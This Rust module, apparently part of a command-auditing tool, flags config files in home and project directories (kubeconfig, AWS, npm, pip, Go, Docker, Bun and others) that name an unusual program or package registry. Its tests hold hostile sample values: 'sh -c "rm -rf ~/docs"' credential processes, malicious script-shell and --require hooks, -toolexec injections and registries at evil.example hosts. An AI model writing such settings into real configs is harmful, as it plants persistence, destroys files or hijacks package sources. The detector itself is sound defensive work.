//! Settings in the home directory that programs read by themselves, and that may name a program which they then run. People and programs
//! change these files all day, so a change of one says nothing by itself: what is written into it does, and what stands in it when it came
//! in the session.

mod kinds;
mod projects;

pub use kinds::KUBERNETES_CREDENTIALS;

use kinds::KINDS;
use projects::{IN_PROJECTS, PRELOADING};

use crate::call::Call;
use crate::draft::Draft;
use crate::effect::{EffectKind, Target};
use crate::machine::Machine;
use crate::path::AbsolutePath;
use crate::world::Entry;

/// Files of one kind.
struct Kind {
    /// From the home directory.
    files: &'static [&'static str],
    /// Who reads them.
    readers: &'static [&'static str],
    /// The variable that names others in their place.
    variable: &'static str,
    /// Before the value that names a program or where packages come from, in small letters.
    keys: &'static [&'static str],
    /// What the values are that these settings are for.
    usual: &'static [&'static str],
    /// What may stand behind a usual value.
    arguments: Arguments,
    /// Where it is written down.
    #[expect(dead_code, reason = "it is for whoever reads or checks the table")]
    source: &'static str,
}

/// What may stand behind a usual value.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Arguments {
    /// Nothing but further usual values.
    None,
    /// The arguments of a program.
    OfProgram,
}

/// What settings in a home directory name, when their text is this, that a program runs or takes packages from, and that is not what such
/// settings are for; `None` where nothing is.
pub fn unusual_setting(path: &AbsolutePath, home: &AbsolutePath, text: &str) -> Option<String> {
    let ends = |end: &&str| path.as_str().ends_with(end);
    let at_home =
        path.relative_to(home).and_then(|rest| KINDS.iter().find(|kind| kind.files.contains(&rest)));
    let kind = at_home.or_else(|| IN_PROJECTS.iter().find(|kind| kind.files.iter().any(ends)));
    let preloaded = || PRELOADING.0.iter().any(ends).then(|| preloaded(text, PRELOADING.1)).flatten();
    kind.and_then(|kind| value_in(kind, text)).or_else(preloaded)
}

/// What a key of a text of TOML names that stands before its first table.
fn preloaded(text: &str, key: &str) -> Option<String> {
    let joined = joined(text);
    let mut head = joined.lines().take_while(|line| !line.trim_start().starts_with('['));
    head.find_map(|line| {
        let (name, value) = line.trim_start().trim_start_matches('+').split_once('=')?;
        // A key may stand in quotes (toml.io, "Keys").
        let value = value.trim_matches([' ', '[', ']', '"', '\'']);
        (name.trim().trim_matches(['"', '\'']) == key).then_some(())?;
        (!value.is_empty()).then(|| value.to_owned())
    })
}

/// Whether a file is one of these tables.
fn is_known(path: &AbsolutePath, home: &AbsolutePath) -> bool {
    let at_home =
        path.relative_to(home).is_some_and(|rest| KINDS.iter().any(|kind| kind.files.contains(&rest)));
    at_home || IN_PROJECTS.iter().flat_map(|kind| kind.files).any(|end| path.as_str().ends_with(end))
}

/// The first value of a key of this kind that is not usual.
fn value_in(kind: &Kind, text: &str) -> Option<String> {
    joined(text).lines().find_map(|line| {
        let line = line.trim_start().trim_start_matches("- ");
        if is_remark(line) {
            return None;
        }
        let lower = line.to_ascii_lowercase();
        let ends = |key: &str, at: usize| {
            let behind = lower.get(at..).unwrap_or_default().trim_start();
            key.ends_with([':', ' ']) || behind.starts_with(['=', ':'])
        };
        let starts = |at: usize| {
            let before = lower.get(..at).unwrap_or_default();
            before.is_empty() || before.ends_with([' ', '{', ',', '"'])
        };
        let mut places = kind
            .keys
            .iter()
            .flat_map(|key| lower.match_indices(key).map(move |(at, _)| (*key, at, at + key.len())));
        places.find_map(|(key, at, end)| {
            let is_key = starts(at) && ends(key, end);
            let named = if is_key { named_behind(line.get(end..)?, key) } else { Vec::new() };
            named.into_iter().find(|value| !value.is_empty() && !is_usual(kind, value)).map(str::to_owned)
        })
    })
}

/// What the text behind a key names: its value, or the values of the map or list that stands there.
fn named_behind<'t>(text: &'t str, key: &str) -> Vec<&'t str> {
    let text = text.trim_start_matches([' ', '=', ':']);
    let plain = |value: &'t str| {
        let value = value.trim_start_matches([' ', '\t', '[', '"', '\'']);
        value.trim_end_matches([' ', '\t', ',', '"', '\'', ']', '}'])
    };
    if let Some(map) = text.strip_prefix('{') {
        let inner = map.split('}').next().unwrap_or_default();
        return inner.split(',').filter_map(|entry| Some(plain(entry.rsplit_once(':')?.1))).collect();
    }
    if let Some(list) = text.strip_prefix('[') {
        return vec![plain(list.split(']').next().unwrap_or_default())];
    }
    // Further keys of the object may stand behind it.
    let is_in_object = key.ends_with("\":");
    vec![plain(if is_in_object { text.split("\",").next().unwrap_or_default() } else { text })]
}

/// A text without its remarks, in which a list or a map that goes over several lines stands in one. What is opened and never closed is read line by
/// line.
fn joined(text: &str) -> String {
    let lines: Vec<&str> = text.lines().filter(|line| !is_remark(line)).collect();
    // The last line with each sign that closes.
    let last = |sign: char| lines.iter().rposition(|line| line.contains(sign));
    let closing = [('[', ']', last(']')), ('{', '}', last('}'))];
    let mut out = String::with_capacity(text.len());
    let mut end: Option<char> = None;
    for (place, line) in lines.iter().enumerate() {
        out.push_str(line);
        end = match end {
            Some(sign) => Some(sign).filter(|sign| !line.contains(*sign)),
            None => closing.into_iter().find_map(|(begins, ends, last)| {
                let (before, behind) = line.rsplit_once(begins)?;
                let is_value = before.trim_end().ends_with([':', '=']);
                let is_closed = last.is_some_and(|last| last > place);
                (is_value && !behind.contains(ends) && is_closed).then_some(ends)
            }),
        };
        out.push(if end.is_some() { ' ' } else { '\n' });
    }
    out
}

/// Whether nothing stands in a line but a remark.
fn is_remark(line: &str) -> bool {
    let line = line.trim_start();
    line.starts_with(['#', ';']) || line.starts_with("//")
}

/// Whether a value is what the settings of its kind are for: each of its parts, or its program where arguments stand behind one.
fn is_usual(kind: &Kind, value: &str) -> bool {
    let separators = |letter: char| letter.is_whitespace() || matches!(letter, ',' | '|' | '"' | '\'');
    let mut parts = value.split(separators).filter(|part| !part.is_empty());
    match kind.arguments {
        // Behind `--` stands a command of its own (aws-vault(1), `exec`).
        Arguments::OfProgram => {
            parts.next().is_some_and(|program| kind.usual.contains(&program))
                && parts.all(|part| part != "--")
        }
        Arguments::None => parts.all(|part| kind.usual.iter().any(|usual| is_usual_part(usual, part))),
    }
}

/// Whether a part of a value is a usual one: it as a whole, a page or file below a usual place, or another value of a usual option.
fn is_usual_part(usual: &str, part: &str) -> bool {
    part == usual
        || part.strip_prefix(usual).is_some_and(|more| {
            let is_folder = usual.ends_with('/') && !usual.contains("://");
            let is_place = usual.contains("://") || usual.starts_with('/');
            let is_option = usual.starts_with('-');
            let is_release = usual == "go1";
            is_folder && !more.contains("..")
                || is_place && more.starts_with('/')
                || is_option && (more.starts_with('=') || usual.ends_with('='))
                || is_release && more.starts_with('.')
        })
}

impl Machine<'_> {
    /// Adds that settings of this home which the command writes name what programs run from now on.
    pub(super) fn note_default_settings(&mut self) {
        let home = self.world().place().home.clone();
        let is_written = |kind: EffectKind| matches!(kind, EffectKind::FileCreate | EffectKind::FileModify);
        let written = self.findings.effects.iter().filter(|effect| is_written(effect.kind));
        let in_projects = written.filter_map(|effect| effect.target.path().cloned());
        let at_home = KINDS.iter().flat_map(|kind| kind.files).map(|file| home.join(file));
        let mut paths: Vec<AbsolutePath> = at_home.chain(in_projects).collect();
        paths.sort();
        paths.dedup();
        paths.retain(|path| is_known(path, &home) && self.is_written_here(path));
        for path in paths {
            let text = self.text(&path);
            let before = self.world().text(&path);
            let Some(value) = text.as_exact().and_then(|text| unusual_setting(&path, &home, text)) else {
                continue;
            };
            // It may have stood there before.
            if matches!(before, crate::world::FileText::Whole(before) if before.contains(&value)) {
                continue;
            }
            let draft = Draft::new(EffectKind::Persistence, Target::Path(path));
            self.add(
                draft.note(format!("names `{value}`, which programs run or take packages from, from now on")),
            );
        }
    }

    /// Adds that a program reads settings of this home that came in the session, and name what it runs.
    pub(super) fn read_default_settings(&mut self, call: &Call) {
        let program = call.program.split(' ').next().unwrap_or_default();
        let home = self.world().place().home.clone();
        for kind in KINDS.iter().filter(|kind| kind.readers.contains(&program)) {
            if self.variable(kind.variable).is_some() {
                continue;
            }
            for path in kind.files.iter().map(|file| home.join(file)) {
                self.read_settings_of(program, kind, &path);
            }
        }
    }

    fn read_settings_of(&mut self, program: &str, kind: &Kind, path: &AbsolutePath) {
        if matches!(self.entry(path), Entry::Missing)
            || !(self.is_of_session(path) || self.came_in_session(path))
        {
            return;
        }
        let text = self.text(path);
        let Some(value) = text.as_exact().and_then(|text| value_in(kind, text)) else { return };
        if !self.was_there_before(&value) {
            self.unread(format!(
                "`{program}` reads `{path}`, which came in this session and names `{value}`, which it runs or takes packages from"
            ));
        }
    }

    /// Whether a value names a program of the machine or the user that does nothing by itself: no shell and no interpreter, and no file
    /// that came in the session.
    fn was_there_before(&self, value: &str) -> bool {
        let first = value.split_whitespace().next().unwrap_or_default();
        if !first.starts_with(['/', '~']) {
            return false;
        }
        let Some(path) = self.one_path_through(&crate::value::Value::exact(first)) else { return false };
        let is_shell = path.name().is_none_or(|name| self.knows(name));
        let place = self.world().place();
        !is_shell
            && matches!(self.entry(&path), Entry::File(_))
            && !place.is_temporary(&path)
            && !path.is_within(&place.workspace)
            && !self.is_of_session(&path)
            && !self.came_in_session(&path)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(file: &str, text: &str) -> Option<String> {
        let home = AbsolutePath::new("/home/dev").unwrap();
        unusual_setting(&home.join(file), &home, text)
    }

    #[test]
    fn what_settings_are_for_is_told_from_what_they_are_not_for() {
        for (file, text) in [
            (
                ".kube/config",
                "users:\n- name: me\n  user:\n    exec:\n      command: sh\n      args: [-c, \"rm -rf ~/docs\"]\n",
            ),
            (".kube/config", "{\"users\":[{\"user\":{\"exec\":{\"command\": \"/tmp/x\"}}}]}"),
            (".kube/config", "      - command: python3\n"),
            (".aws/config", "[default]\ncredential_process = sh -c \"rm -rf ~/docs\"\n"),
            (".aws/credentials", "[default]\ncredential_process=/tmp/x\n"),
            (".npmrc", "script-shell=./evil\n"),
            (".npmrc", "# see: [\nscript-shell=/tmp/evil\n"),
            (".npmrc", "a = [\nscript-shell=/tmp/evil\n"),
            (".npmrc", "; a = {\nscript-shell=/tmp/evil\n; }\n"),
            (".npmrc", "node-options=--require /tmp/x.js\n"),
            (".npmrc", "registry=https://packages.evil.example\n"),
            (".config/pip/pip.conf", "[global]\nindex-url = https://packages.evil.example/simple\n"),
            (".config/go/env", "GOFLAGS=-toolexec=/tmp/x\n"),
            (".config/go/env", "GOFLAGS=-mod=mod -toolexec=/tmp/x\n"),
            (".config/go/env", "GOFLAGS=-v -toolexec=/tmp/x\n"),
            (".config/go/env", "GOPROXY=https://proxy.golang.org,https://packages.evil.example\n"),
            (".config/go/env", "CC=gcc -B/tmp/x\n"),
            (".npmrc", "node-options=--max-old-space-size=1 --require /tmp/x.js\n"),
            (".config/pip/pip.conf", "[global]\nindex-url = https://pypi.org.evil.example/simple\n"),
            (
                ".aws/config",
                "[default]\ncredential_process = aws-vault exec dev -- sh -c \"rm -rf ~/docs\"\n",
            ),
            (
                ".docker/config.json",
                "{\"cliPluginsExtraDirs\": [\"/usr/lib/docker/cli-plugins\", \"/tmp/p\"]}",
            ),
            (".docker/config.json", "{\"cliPluginsExtraDirs\": [\"/tmp/p\"]}"),
            (".docker/config.json", "{\n\t\"cliPluginsExtraDirs\": [\n\t\t\"/tmp/p\"\n\t]\n}"),
            (".docker/config.json", "{\"credsStore\": \"evil\"}"),
            (
                ".docker/config.json",
                "{\"auths\": {}, \"credsStore\": \"desktop\", \"credHelpers\": {\"a.example\": \"evil\"}}",
            ),
            (
                ".docker/config.json",
                "{\n  \"credHelpers\": {\n    \"a.example\": \"gcr\",\n    \"b.example\": \"evil\"\n  }\n}",
            ),
            (".config/pnpm/rc", "script-shell=/tmp/evil\n"),
            (".config/pnpm/config.yaml", "scriptShell: /tmp/evil\n"),
            (".config/containers/containers.conf", "[engine]\nhooks_dir = [\"/tmp/e\"]\n"),
            (".config/containers/containers.conf", "[engine.runtimes]\ncrun = [\n  \"/tmp/crun\"\n]\n"),
            (".nanorc", "set speller \"sh -c x\"\n"),
            (".nanorc", "syntax python \"\\.py$\"\nformatter sh -c x\n"),
            (".config/ccache/ccache.conf", "prefix_command = /tmp/x\n"),
            (".config/yt-dlp/config", "--exec \"sh -c x\"\n"),
            (".aria2/aria2.conf", "on-download-complete=/tmp/x\n"),
            (".config/bat/config", "--pager=\"sh -c x\"\n"),
            ("proj/.npmrc", "save-exact=true\nscript-shell=./x.sh\n"),
            ("proj/.npmrc", "node-options=--require ./x.js\n"),
            ("proj/.npmrc", "registry=https://packages.evil.example/\n"),
            ("proj/.yarnrc.yml", "nodeLinker: node-modules\nyarnPath: ./x.cjs\n"),
            ("proj/.yarnrc.yml", "yarnPath: .yarn/releases/../../x.cjs\n"),
            ("proj/.yarnrc.yml", "plugins:\n  - path: ./x.cjs\n    spec: x\n"),
            ("proj/.yarnrc.yml", "npmRegistryServer: \"https://packages.evil.example\"\n"),
            ("proj/.yarnrc", "yarn-path \"./x.js\"\n"),
            ("proj/pnpm-workspace.yaml", "packages:\n  - packages/*\nscriptShell: ./x.sh\n"),
            ("proj/pnpm-workspace.yaml", "registry: https://packages.evil.example\n"),
            ("proj/bunfig.toml", "preload = [\"./x.ts\"]\n"),
            ("proj/bunfig.toml", "\"preload\" = \"./x.ts\"\n"),
            ("proj/bunfig.toml", "preload = [\n  \"./x.ts\",\n]\n[test]\ncoverage = true\n"),
            ("proj/bunfig.toml", "[install]\nregistry = \"https://packages.evil.example\"\n"),
            ("proj/uv.toml", "[[index]]\nurl = \"https://packages.evil.example/simple\"\n"),
            ("proj/.venv/pip.conf", "[global]\nindex-url = https://packages.evil.example/simple\n"),
            ("proj/deno.json", "{\"importMap\": \"https://evil.example/map.json\"}"),
        ] {
            assert!(found(file, text).is_some(), "{file} {text}");
        }
        for (file, text) in [
            (
                ".kube/config",
                "users:\n- name: me\n  user:\n    exec:\n      command: aws\n      args: [eks, get-token]\n",
            ),
            (".kube/config", "users:\n- name: me\n  user:\n    token: none\n# command: sh\n"),
            (
                ".aws/config",
                "[default]\nregion = eu-west-1\ncredential_process = aws-vault exec dev --json\n",
            ),
            (
                ".npmrc",
                "save-exact=true\nregistry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken=x\n",
            ),
            (".npmrc", "node-options=--max-old-space-size=4096\n"),
            (".config/pip/pip.conf", "[global]\nindex-url = https://pypi.org/simple\ntimeout = 60\n"),
            (".config/go/env", "GOPROXY=https://proxy.golang.org,direct\nGOFLAGS=-mod=mod\n"),
            (".config/go/env", "GOFLAGS=-mod=mod -trimpath\nGOTOOLCHAIN=go1.23.4\n"),
            (".docker/config.json", "{\"cliPluginsExtraDirs\": [\"/usr/lib/docker/cli-plugins\"]}"),
            (".docker/config.json", "{\"credsStore\": \"desktop\", \"auths\": {}}"),
            (
                ".docker/config.json",
                "{\n  \"auths\": {\n    \"a.example\": {\n      \"auth\": \"x\"\n    }\n  },\n  \"credHelpers\": {\n    \"a.example\": \"ecr-login\"\n  }\n}",
            ),
            (".config/pnpm/rc", "store-dir=/data/pnpm\nauto-install-peers=true\n"),
            (
                ".config/containers/containers.conf",
                "[engine]\nhooks_dir = [\"/usr/share/containers/oci/hooks.d\"]\nruntime = \"crun\"\n",
            ),
            (
                ".nanorc",
                "set tabsize 4\nset speller \"aspell -x -c\"\ninclude \"/usr/share/nano/*.nanorc\"\n",
            ),
            (".config/yt-dlp/config", "-o %(title)s.%(ext)s\n--downloader aria2c\n"),
            (".config/bat/config", "--theme=\"OneHalfDark\"\n--pager=\"less -FR\"\n"),
            (".kube/other", "      command: sh\n"),
            (
                "proj/.npmrc",
                "save-exact=true\nengine-strict=true\n@acme:registry=https://npm.acme.example/\n",
            ),
            ("proj/.yarnrc.yml", "nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.5.0.cjs\n"),
            ("proj/.yarnrc.yml", "plugins:\n  - path: .yarn/plugins/@yarnpkg/plugin-x.cjs\n    spec: x\n"),
            ("proj/pnpm-workspace.yaml", "packages:\n  - packages/*\ncatalog:\n  react: ^19.0.0\n"),
            ("proj/bunfig.toml", "[test]\npreload = [\"./setup.ts\"]\ncoverage = true\n"),
            ("proj/bunfig.toml", "[install]\nexact = true\nregistry = \"https://registry.npmjs.org\"\n"),
            (
                "proj/uv.toml",
                "[[index]]\nname = \"pytorch\"\nurl = \"https://download.pytorch.org/whl/cpu\"\n",
            ),
            (
                "proj/deno.json",
                "{\"tasks\": {\"a\": \"deno run a.ts\"}, \"importMap\": \"./import_map.json\"}",
            ),
        ] {
            assert_eq!(found(file, text), None, "{file} {text}");
        }
    }
}
